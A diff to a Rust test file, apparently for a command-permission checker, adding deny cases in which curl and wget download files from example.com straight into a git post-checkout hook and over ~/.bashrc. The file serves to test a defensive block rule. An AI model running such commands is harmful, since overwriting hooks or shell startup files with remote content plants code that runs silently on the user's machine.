@@ -862,6 +862,8 @@ fn container_mounts_name_the_hosts_files(#[case] script: &str, #[case] expected:
 )]
 #[case("git log -1 --format=x --output .git/hooks/pre-commit", "deny")]
 #[case("tar czf ~/.zshrc README.md", "deny")]
+#[case("curl -so .git/hooks/post-checkout https://example.com/h", "deny")]
+#[case("wget -qO ~/.bashrc https://example.com/rc", "deny")]
 // Everyday spellings of the same tools stay allowed.
 #[case("mv build dist && cp -r src/. /tmp/backup/", "allow")]
 #[case("git diff --output=changes.diff && tar -czf /tmp/src.tgz a", "allow")]
